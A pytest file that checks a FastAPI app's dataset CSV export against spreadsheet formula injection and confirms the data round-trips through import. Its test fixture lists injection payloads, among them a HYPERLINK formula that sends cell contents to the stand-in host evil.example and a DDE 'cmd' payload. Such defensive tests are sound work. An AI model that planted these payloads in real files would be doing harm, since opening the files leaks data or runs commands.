"""CSV exports cannot run as spreadsheet formulas and open as Arabic in Excel (issue 15): cells
starting with = + - @ tab or CR are neutralised with an apostrophe (undone on import) and the file
starts with a UTF-8 byte order mark. SQLite only."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from api.main import create_app
from assistant.chat.service import Assistant
from assistant.eval.datasets import DatasetStore
from assistant.staff import accounts as staff_auth
from tests.conftest import ingest_into
from tests.staff.helpers import ADMIN, sign_in

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"انقر هنا")',
    "+966 11 000 0000",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
    "''-twice",
    "سؤال عادي",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def client(settings, fake_embedder, corpus_copy, monkeypatch):
    monkeypatch.setattr(staff_auth, "BCRYPT_ROUNDS", 4)
    assistant = Assistant(settings, embedder=fake_embedder)
    ingest_into(assistant, corpus_copy, progress=False)
    staff_auth.create_user(assistant.sessions, *ADMIN, role="admin")
    with TestClient(create_app(assistant=assistant)) as client:
        client.assistant = assistant
        sign_in(client)
        yield client


def test_dataset_csv_is_formula_safe_has_a_bom_and_round_trips(client):
    store = DatasetStore(client.assistant.sessions)
    dataset = store.create("formulas")
    for n, text in enumerate(FORMULAS):
        store.add_row(dataset.id, external_id=f"-{n}", question=text, reference_answer=text, evidence=text)

    response = client.get(f"/staff/datasets/{dataset.id}/export?fmt=csv")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS), (column, cell)
    assert "سؤال عادي" in {r["question"] for r in rows}  # ordinary text is untouched

    copy = store.create("copy")
    store.import_rows(copy.id, response.content.decode("utf-8-sig"), "csv")
    assert store.export(copy.id, "jsonl") == store.export(dataset.id, "jsonl")
    assert [r.question for r in store.rows(copy.id)] == [r.question for r in store.rows(dataset.id)]
    assert "'=already quoted" in {r.question for r in store.rows(copy.id)}
